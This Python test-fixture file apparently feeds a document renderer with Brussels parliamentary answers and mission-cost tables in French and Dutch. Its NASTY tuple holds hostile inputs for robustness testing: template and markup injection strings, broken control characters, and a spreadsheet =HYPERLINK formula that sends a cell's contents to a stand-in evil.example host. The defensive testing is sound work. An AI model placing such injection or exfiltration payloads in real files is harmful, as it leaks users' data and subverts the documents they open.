"""Answers to print: a small and a big one, in French and in Dutch, and one whose every text tries to do harm."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from mercator.documents.answer import Act, AnswerDocument, Cell, Column, Labels, Part, Table
from tests.documents.wording import LABELS, MISSIONS, WORDS

MADE_AT = datetime(2023, 10, 25, 9, 30, tzinfo=UTC)
KINDS = ("text",) * 6 + ("integer",) * 3 + ("money",) * 4 + ("text",)

NASTY = (
    '#import "@preview/x:1.0.0" $a_1$ *bold* _it_ `raw` <label> @ref // no',
    '{{ 7 * 7 }} {% for x in y %} {_{ a }_} {_% b %_} ]]> </w:t> &amp; <w:p/> "q"',
    '=HYPERLINK("http://evil.example/?"&A1,"click") R&D',
    "שלום עולם مرحبا بالعالم Ελληνικά Кириллица",
    "fête 🎉🇧🇪👨‍👩‍👧 展览会 après",
    "première ligne\nseconde ligne\r\ntroisième\tavec tabulation",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "null\x00 bell\x07 form\x0cfeed \ufffe \ud800 fin _x0041_",
)


def euros(amount: Decimal, *, language: str) -> str:
    """The amount as people write it: 92 235,58 in French, 92.235,58 in Dutch."""
    gap = "\u202f" if language == "fr" else "."
    return f"{amount:,.2f}".replace(",", "_").replace(".", ",").replace("_", gap)


def annex(language: str = "fr", *, rows: int = 10) -> Table:
    """The missions of a year: fourteen columns, with unknown cells, a total and notes."""
    words = WORDS[language]
    lines = tuple(_mission(number, language=language) for number in range(rows))
    return Table(
        title=words["annex"],
        columns=tuple(Column(title, kind) for title, kind in zip(words["columns"].split("|"), KINDS, strict=True)),
        rows=lines,
        total=_total(lines, language=language) if lines else (),
        notes=(words["note_euros"], words["note_companies"]),
        empty=words["no_mission"],
        summary=words["summary"],
    )


def _total(lines: tuple[tuple[Cell, ...], ...], *, language: str) -> tuple[Cell, ...]:
    totals = [sum((Decimal(line[column].value or 0) for line in lines), start=Decimal(0)) for column in range(6, 13)]
    return (
        Cell(WORDS[language]["total"]),
        *(Cell("") for _ in range(5)),
        *(Cell(str(value), int(value)) for value in totals[:3]),
        *(Cell(euros(value, language=language), value) for value in totals[3:]),
        Cell(WORDS[language]["scope"]),
    )


def _mission(number: int, *, language: str) -> tuple[Cell, ...]:
    """Each third mission has no known cost, each fifth approximate numbers of companies."""
    title, country, sectors, tag = MISSIONS[language][number % 6]
    words = WORDS[language]
    start = date(2023, 1, 9) + timedelta(days=number)
    known, about = number % 3 != 2, number % 5 == 1
    companies = [Cell((words["about"] if about else "") + str(each), each, about=about) for each in (15, 18, 19)]
    if number % 4 == 3:
        companies[1] = Cell(words["unknown"])
    costs = [Decimal("92235.58"), Decimal("29991.43"), Decimal("3000.00") + number, None]
    return (
        Cell(title),
        Cell(f"{start:%d/%m/%Y} – {start + timedelta(days=5):%d/%m/%Y}"),
        Cell(country),
        Cell(sectors or words["unknown"]),
        Cell("ACE/ABH, hub.brussels, AWEX, FIT" if number % 2 == 0 else "hub.brussels"),
        Cell(tag),
        *companies,
        *(_cost(each if known else None, language=language) for each in costs),
        Cell(words["scope"] if known else words["scope_unknown"]),
    )


def _cost(amount: Decimal | None, *, language: str) -> Cell:
    return Cell(WORDS[language]["unknown"]) if amount is None else Cell(euros(amount, language=language), amount)


def answer(language: str = "fr", *, rows: int = 10, draft: bool = False) -> AnswerDocument:
    """The answer to a question such as 907, with an annex of that many missions."""
    words = WORDS[language]
    dates = ("21/09/2023", "07/11/2023", "25/10/2023", "19/24", "23/24", "907")
    return AnswerDocument(
        language=language,
        title=words["title"],
        parliament=words["parliament"],
        authors="Bertin Mampaka Mankamba",
        addressee=words["addressee"],
        fields=tuple(zip(words["fields"].split("|"), dates, strict=True)),
        acts=(Act("28/09/2023", words["admissible"], words["bureau"]), Act("25/10/2023", words["act"], "", "p.m.")),
        question_paragraphs=(words["asked"], words["thanks"]),
        parts=_parts(language),
        annex=(annex(language, rows=rows),),
        sources=(
            (
                "1",
                "https://www.parlement.brussels/weblex-quest-det/?moncode=907&montitre=missions-economiques-"
                "bruxelloises&annee=2023&langue=fr-et-nl&version=publication-definitive",
            ),
            ("2", "ACE/ABH, 2023 | https://www.abh-ace.be/fr | https://example.org/a(b)."),
        ),
        labels=Labels(**LABELS[language]),
        standing=words["draft" if draft else "frozen"],
        draft=draft,
        made_at=MADE_AT,
        agency="hub.brussels",
        notes=(words["note"],),
    )


def _parts(language: str) -> tuple[Part, ...]:
    words = WORDS[language]
    posts = Table(title=words["posts"], columns=(Column(words["region"]),), rows=(), empty=words["nothing"])
    return (
        Part(words["ask_missions"], paragraphs=(words["see_annex"],), tables=(by_region(language),)),
        Part(words["ask_delegation"], statements=(words["no_origin"], words["nothing"])),
        Part(words["ask_links"], paragraphs=(words["links"],), tables=(posts,)),
    )


def by_region(language: str = "fr") -> Table:
    """A small table with a column of each kind, and an unknown cell in each of them."""
    words = WORDS[language]
    amount, unknown = Decimal("122227.01"), Cell(words["unknown"])
    return Table(
        title=words["by_region"],
        columns=tuple(
            Column(title, kind)
            for title, kind in zip(
                words["region_columns"].split("|"), ("text", "integer", "money", "date"), strict=True
            )
        ),
        rows=(
            (
                Cell(words["brussels"]),
                Cell("15", 15),
                Cell(euros(amount, language=language), amount),
                Cell("21/05/2023", date(2023, 5, 21)),
            ),
            (Cell(words["wallonia"]), unknown, unknown, unknown),
        ),
        total=(Cell(words["total"]), Cell("15", 15), Cell(euros(amount, language=language), amount), Cell("")),
        notes=(words["scope"],),
    )


def nasty_answer(language: str = "fr") -> AnswerDocument:
    """Every text of the document is one that would do harm if it were taken for an instruction."""
    table = nasty_table()
    return replace(
        answer(language, rows=2),
        title=NASTY[0],
        parliament=NASTY[1],
        authors=NASTY[2],
        addressee=NASTY[3],
        fields=tuple((text, text) for text in NASTY),
        acts=tuple(Act(text, text, text, text) for text in NASTY),
        question_paragraphs=NASTY,
        parts=tuple(Part(text, paragraphs=(text,), statements=(text,), tables=(table,)) for text in NASTY[:3]),
        annex=(table, replace(table, title=NASTY[6]), replace(table, title="x", rows=(), empty=NASTY[1])),
        sources=tuple((str(number), text) for number, text in enumerate(NASTY, start=1)),
        standing=NASTY[1],
        draft=True,
        notes=NASTY,
    )


def nasty_table() -> Table:
    """Harmful words in columns of each kind, where a number or a date is expected too."""
    kinds = ("text", "money", "integer", "date")
    return Table(
        title=NASTY[0],
        columns=tuple(Column(text, kind) for text, kind in zip(NASTY[:4], kinds, strict=True)),
        rows=tuple(tuple(Cell(text) for _ in kinds) for text in NASTY),
        notes=NASTY,
        summary=NASTY[0],
    )
